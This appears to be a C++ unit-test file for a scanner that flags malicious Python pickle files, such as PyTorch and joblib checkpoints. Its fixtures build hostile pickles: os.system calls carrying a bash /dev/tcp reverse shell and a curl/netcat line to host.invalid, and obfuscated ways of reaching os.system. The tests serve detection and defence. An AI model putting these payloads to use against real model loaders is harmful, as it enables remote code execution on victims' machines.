#include "catalogue/world.h"

#include <gtest/gtest.h>

#include "catalogue/harness.h"

namespace brine::catalogue {
namespace {

using pickle::Level;

Assembler& storage(Assembler& out, std::string_view key) {
  return out.mark()
      .str("storage")
      .global("torch", "FloatStorage")
      .str(key)
      .str("cpu")
      .integer(6)
      .tuple()
      .persid();
}

Assembler& hooks(Assembler& out) {
  return out.global("collections", "OrderedDict").empty_tuple().reduce();
}

Assembler& tensor(Assembler& out, std::string_view key) {
  out.global("torch._utils", "_rebuild_tensor_v2").mark();
  storage(out, key).integer(0).integer(2).integer(3).tuple2().integer(3).integer(1).tuple2().no();
  return hooks(out).tuple().reduce();
}

Assembler state_dict() {
  Assembler out;
  out.proto(2);
  hooks(out).mark().str("weight");
  tensor(out, "0").str("bias");
  tensor(out, "1").raw("u");
  out.empty_dict().str("_metadata");
  hooks(out).setitem().build();
  return out.stop();
}

TEST(World, StateDictIsClean) {
  const Ran ran = run(state_dict(), {}, torch_profile());
  EXPECT_EQ(ran.worst, Level::inert) << ran.report();
  EXPECT_EQ(ran.result.end.kind, pickle::EndKind::stop) << ran.report();
}

TEST(World, StateDictIsCleanWithoutDangerData) {
  const Ran ran = run(state_dict(), {.blind = true}, torch_profile());
  EXPECT_EQ(ran.worst, Level::inert) << ran.report();
}

TEST(World, SystemIsMaliciousWithItsCommand) {
  const Ran ran = run(Assembler().global("os", "system").str("echo x").tuple1().reduce().stop());
  EXPECT_EQ(ran.worst, Level::malicious) << ran.report();
  EXPECT_TRUE(ran.has(201));
  EXPECT_EQ(ran.evidence("command"), "echo x");
}

TEST(World, BlindWorldStillSuspectsIt) {
  const Ran ran = run(Assembler().global("os", "system").str("echo x").tuple1().reduce().stop(),
                      {.blind = true});
  EXPECT_EQ(ran.worst, Level::suspicious) << ran.report();
}

TEST(World, AddressIsPulledOutOfACommand) {
  const Ran ran = run(Assembler()
                          .global("posix", "system")
                          .str("bash -i >& /dev/tcp/host.invalid/4444 0>&1")
                          .tuple1()
                          .reduce()
                          .stop());
  EXPECT_EQ(ran.evidence("address"), "host.invalid:4444");
  EXPECT_EQ(ran.evidence("name"), "os.system");
}

TEST(World, NetcatAndUrlsArePulledOut) {
  const Ran ran = run(Assembler()
                          .global("os", "system")
                          .str("curl http://host.invalid/x; nc -e sh host.invalid 99")
                          .tuple1()
                          .reduce()
                          .stop());
  EXPECT_EQ(ran.evidence("url"), "http://host.invalid/x");
  EXPECT_EQ(ran.evidence("address"), "host.invalid:99");
}

TEST(World, CommandOfAListIsALine) {
  const Ran ran = run(Assembler()
                          .global("subprocess", "Popen")
                          .mark()
                          .empty_list()
                          .mark()
                          .str("sh")
                          .str("-c")
                          .str("echo x")
                          .appends()
                          .tuple()
                          .reduce()
                          .stop());
  EXPECT_EQ(ran.evidence("command"), "sh -c echo x");
}

TEST(World, EvalShowsItsCode) {
  const Ran ran =
      run(Assembler().global("__builtin__", "eval").str("1+1").tuple1().reduce().stop());
  EXPECT_EQ(ran.evidence("code"), "1+1");
  EXPECT_TRUE(ran.has(202));
}

TEST(World, NestedPickleIsAViewOfItsOwn) {
  const Ran ran = run(Assembler().global("pickle", "loads").bytes("N.").tuple1().reduce().stop());
  EXPECT_EQ(ran.worst, Level::inert) << ran.report();
  ASSERT_EQ(ran.nested.size(), 1u);
  EXPECT_EQ(ran.nested[0].first, "pickle.loads");
  EXPECT_EQ(ran.nested[0].second, "N.");
}

TEST(World, NestedPickleIsFoundThroughAStream) {
  const Ran ran = run(Assembler()
                          .global("pickle", "load")
                          .global("io", "BytesIO")
                          .bytes("N.")
                          .tuple1()
                          .reduce()
                          .tuple1()
                          .reduce()
                          .stop());
  ASSERT_EQ(ran.nested.size(), 1u) << ran.report();
  EXPECT_EQ(ran.nested[0].second, "N.");
}

TEST(World, NestedPickleIsFoundThroughAnUnpickler) {
  const Ran ran = run(Assembler()
                          .global("builtins", "getattr")
                          .global("pickle", "Unpickler")
                          .global("io", "BytesIO")
                          .bytes("N.")
                          .tuple1()
                          .reduce()
                          .tuple1()
                          .reduce()
                          .str("load")
                          .tuple2()
                          .reduce()
                          .empty_tuple()
                          .reduce()
                          .stop());
  ASSERT_EQ(ran.nested.size(), 1u) << ran.report();
  EXPECT_EQ(ran.nested[0].second, "N.");
}

TEST(World, NestedBytesAreDecodedFirst) {
  const Ran ran = run(Assembler()
                          .global("pickle", "loads")
                          .global("base64", "b64decode")
                          .str("Ti4=")
                          .tuple1()
                          .reduce()
                          .tuple1()
                          .reduce()
                          .stop());
  ASSERT_EQ(ran.nested.size(), 1u) << ran.report();
  EXPECT_EQ(ran.nested[0].second, "N.");
}

TEST(World, StoragesOfPlainPicklesAreNestedTorchFiles) {
  const Ran ran = run(Assembler()
                          .global("torch.storage", "_load_from_bytes")
                          .bytes("\x80\x02N.")
                          .tuple1()
                          .reduce()
                          .stop());
  EXPECT_EQ(ran.worst, Level::inert) << ran.report();
  ASSERT_EQ(ran.nested.size(), 1u);
  EXPECT_EQ(ran.nested[0].first, "torch.storage._load_from_bytes");
}

TEST(World, JoinedTextIsALiveName) {
  Assembler out;
  out.proto(4)
      .global("builtins", "getattr")
      .str("")
      .str("join")
      .tuple2()
      .reduce()
      .empty_list()
      .mark()
      .str("o")
      .str("s")
      .appends()
      .tuple1()
      .reduce()
      .str("system")
      .raw("\x93")
      .str("echo x")
      .tuple1()
      .reduce()
      .stop();
  const Ran ran = run(out);
  EXPECT_EQ(ran.worst, Level::malicious) << ran.report();
}

TEST(World, ItemsOfTextMakeNames) {
  Assembler out;
  out.proto(4)
      .global("operator", "getitem")
      .str("xos")
      .integer(1)
      .tuple2()
      .reduce()
      .pop()
      .str("os")
      .global("operator", "concat")
      .str("sys")
      .str("tem")
      .tuple2()
      .reduce()
      .raw("\x93")
      .str("echo x")
      .tuple1()
      .reduce()
      .stop();
  const Ran ran = run(out);
  EXPECT_EQ(ran.worst, Level::malicious) << ran.report();
}

TEST(World, TrustSpeaksForUnknownNamesOnly) {
  Trust trust;
  ASSERT_TRUE(trust.add("mypkg.*"));
  ASSERT_TRUE(trust.add("os.*"));
  ASSERT_TRUE(trust.add("collections.*"));
  WorldOptions options;
  options.trust = &trust;
  const Ran trusted = run(Assembler()
                              .proto(2)
                              .global("mypkg.models", "Net")
                              .empty_tuple()
                              .newobj()
                              .empty_dict()
                              .build()
                              .stop(),
                          options);
  EXPECT_EQ(trusted.worst, Level::inert) << trusted.report();
  EXPECT_EQ(trusted.waived, std::vector<std::string>{"mypkg.models.Net"});
  const Ran system =
      run(Assembler().global("os", "system").str("x").tuple1().reduce().stop(), options);
  EXPECT_EQ(system.worst, Level::malicious);
  const Ran unlisted = run(Assembler().global("os", "unlisted").stop(), options);
  EXPECT_EQ(unlisted.worst, Level::suspicious);
  const Ran text = run(
      Assembler().global("collections", "OrderedDict").str("x").tuple1().reduce().stop(), options);
  EXPECT_EQ(text.worst, Level::suspicious);
  options.blind = true;
  const Ran blind =
      run(Assembler().global("os", "system").str("x").tuple1().reduce().stop(), options);
  EXPECT_EQ(blind.worst, Level::suspicious) << blind.report();
}

TEST(World, ShadowedModulesHaveNoFacts) {
  WorldOptions options;
  options.shadowed = {"collections"};
  const Ran ran =
      run(Assembler().global("collections", "OrderedDict").empty_tuple().reduce().stop(), options);
  EXPECT_EQ(ran.worst, Level::suspicious);
  EXPECT_TRUE(ran.has(130)) << ran.report();
}

TEST(World, ChangingAClassPoisonsTheView) {
  const Ran ran = run(Assembler()
                          .global("collections", "OrderedDict")
                          .none()
                          .empty_dict()
                          .tuple2()
                          .build()
                          .pop()
                          .global("collections", "Counter")
                          .empty_tuple()
                          .reduce()
                          .stop());
  EXPECT_TRUE(ran.poisoned) << ran.report();
  EXPECT_TRUE(ran.has(125)) << ran.report();
  EXPECT_GE(ran.events.size(), 3u) << ran.report();
}

TEST(World, StorageClassNamesAreNotImportedByTorch) {
  const Assembler stream = Assembler().global("evil", "FloatStorage").stop();
  EXPECT_EQ(run(stream, {}, torch_profile()).worst, Level::inert);
  EXPECT_EQ(run(stream).worst, Level::suspicious);
}

TEST(World, PersistentIdsMustBeStorages) {
  const Ran ran = run(Assembler()
                          .proto(2)
                          .mark()
                          .str("storage")
                          .global("os", "system")
                          .str("0")
                          .str("cpu")
                          .integer(1)
                          .tuple()
                          .persid()
                          .stop(),
                      {}, torch_profile());
  EXPECT_EQ(ran.worst, Level::suspicious);
  EXPECT_TRUE(ran.has(124)) << ran.report();
}

TEST(World, ReferencesOfAnotherMachineAreForgotten) {
  const auto world = make_catalogue_world();
  for (const char* name : {"OrderedDict", "nothing", "OrderedDict"}) {
    Ran out;
    MemorySource source(
        Assembler().global("collections", name).empty_tuple().reduce().stop().data());
    Recorder recorder(out);
    pickle::Machine machine(source, {}, *world, recorder, Limits{});
    machine.run();
    EXPECT_EQ(out.worst == Level::inert, std::string_view(name) == "OrderedDict");
  }
}

// x = concat(x, x) again and again: what a result is made of is looked at a bounded number of
// times.
TEST(World, DoublingTextEndsSoon) {
  Assembler out;
  out.proto(2)
      .global("operator", "concat")
      .raw("q")
      .raw(std::string_view("\0", 1))
      .str("a")
      .raw("q\x01");
  for (int i = 0; i < 200; ++i) out.raw(std::string_view("0h\0h\x01h\x01\x86Rq\x01", 11));
  const Ran ran = run(out.stop());
  EXPECT_EQ(ran.worst, Level::suspicious) << ran.report();
}

// A large text handed to a pure function many times costs its budget, not its size times the calls.
TEST(World, LargeTextIsPaidFor) {
  Assembler out;
  out.proto(2).global("builtins", "int").raw("q").raw(std::string_view("\0", 1));
  out.str(std::string(900'000, 'a')).tuple1().raw("q\x01");
  for (int i = 0; i < 20'000; ++i) out.raw(std::string_view("h\0h\x01R0", 6));
  const Ran ran = run(out.stop());
  EXPECT_EQ(ran.worst, Level::suspicious);
  EXPECT_EQ(ran.result.end.kind, pickle::EndKind::stop);
}

}  // namespace
TEST(World, LayersOfTorchsFirstFormatNameTheirSource) {
  const auto layer = [](std::string_view module, std::string_view name) {
    return Assembler()
        .mark()
        .str("module")
        .global(module, name)
        .str("linear.py")
        .str("class Linear: ...")
        .tuple()
        .persid()
        .empty_tuple()
        .newobj()
        .stop();
  };
  pickle::Profile torch;
  torch.persistent = pickle::PersistentLoad::torch;
  const Ran known = run(layer("torch.nn.modules.linear", "Linear"), {}, torch);
  EXPECT_EQ(known.worst, Level::inert) << known.report();
  const Ran unknown = run(layer("mypkg", "Layer"), {}, torch);
  EXPECT_EQ(unknown.worst, Level::suspicious) << unknown.report();
  EXPECT_TRUE(unknown.has(120)) << unknown.report();
}

TEST(World, CodeIsListed) {
  const Ran ran = run(Assembler()
                          .proto(2)
                          .global("cloudpickle.cloudpickle", "_builtin_type")
                          .str("CodeType")
                          .tuple1()
                          .reduce()
                          .mark()
                          .integer(0)
                          .bytes("d\1S\0")
                          .none()
                          .str("http://x.invalid/a")
                          .tuple2()
                          .str("os")
                          .str("getenv")
                          .tuple2()
                          .empty_tuple()
                          .str("<string>")
                          .str("fetch")
                          .tuple()
                          .reduce()
                          .stop());
  EXPECT_EQ(ran.worst, Level::suspicious);
  EXPECT_TRUE(ran.has(132)) << ran.report();
  EXPECT_EQ(ran.evidence("function"), "fetch");
  EXPECT_EQ(ran.evidence("names"), "os, getenv");
  EXPECT_EQ(ran.evidence("constants"), "(None, 'http://x.invalid/a')");
  EXPECT_EQ(ran.evidence("url"), "http://x.invalid/a");
}

// What cannot be computed is nobody's bytes, whether the machine kept the arguments or spells them
// out again.
TEST(World, WhatCannotBeComputedSatisfiesNoContractHoweverItIsKept) {
  const Assembler stream = Assembler()
                               .proto(2)
                               .global("datetime", "datetime")
                               .global("_codecs", "encode")
                               .str("0123456789")
                               .str("latin0")
                               .tuple2()
                               .reduce()
                               .tuple1()
                               .reduce()
                               .stop();
  for (const bool collapse : {true, false}) {
    const Ran ran = run(stream, {}, {}, collapse);
    ASSERT_EQ(ran.events.size(), 2u) << ran.report();
    EXPECT_EQ(ran.events[1].name, "datetime.datetime");
    EXPECT_EQ(ran.events[1].judgement.level, Level::suspicious);
  }
}

// torch.package calls what a persistent id names, with its importer in front of the arguments.
TEST(World, PackagesCallWhatTheirPersistentIdsName) {
  pickle::Profile package;
  package.unpickler = pickle::Unpickler::py;
  package.persistent = pickle::PersistentLoad::torch_package;
  const auto reduced = [](std::string_view module, std::string_view name) {
    return Assembler()
        .proto(2)
        .mark()
        .str("reduce_package")
        .integer(0)
        .global(module, name)
        .str("true")
        .tuple1()
        .tuple()
        .persid()
        .stop();
  };
  const Ran harm = run(reduced("posix", "system"), {}, package);
  EXPECT_EQ(harm.worst, Level::malicious) << harm.report();
  const Ran unknown = run(reduced("mypkg", "make"), {}, package);
  EXPECT_EQ(unknown.worst, Level::suspicious) << unknown.report();
  EXPECT_FALSE(unknown.has(124)) << unknown.report();
  const Ran storage = run(Assembler()
                              .proto(2)
                              .mark()
                              .str("storage")
                              .global("torch", "FloatStorage")
                              .str("0")
                              .str("cpu")
                              .integer(3)
                              .tuple()
                              .persid()
                              .stop(),
                          {}, package);
  EXPECT_EQ(storage.worst, Level::inert) << storage.report();
}

// joblib before 0.10; joblib calls the instance's `read`, so no state may bring its own.
TEST(World, OldWrappersOfJoblibHaveTheirFewAttributes) {
  const auto wrapper = [](std::string_view key, bool text) {
    Assembler out;
    out.proto(2).global("joblib.numpy_pickle", "NDArrayWrapper").empty_tuple().newobj();
    out.empty_dict().str("filename").str("m_01.npy").raw("s").str("subclass");
    out.global("numpy", "ndarray").raw("s").str(key);
    text ? out.str("x") : out.yes();
    return out.raw("s").build().stop();
  };
  EXPECT_EQ(run(wrapper("allow_mmap", false)).worst, Level::inert);
  EXPECT_EQ(run(wrapper("read", true)).worst, Level::suspicious);
  EXPECT_EQ(run(wrapper("allow_mmap", true)).worst, Level::suspicious);
}

}  // namespace brine::catalogue
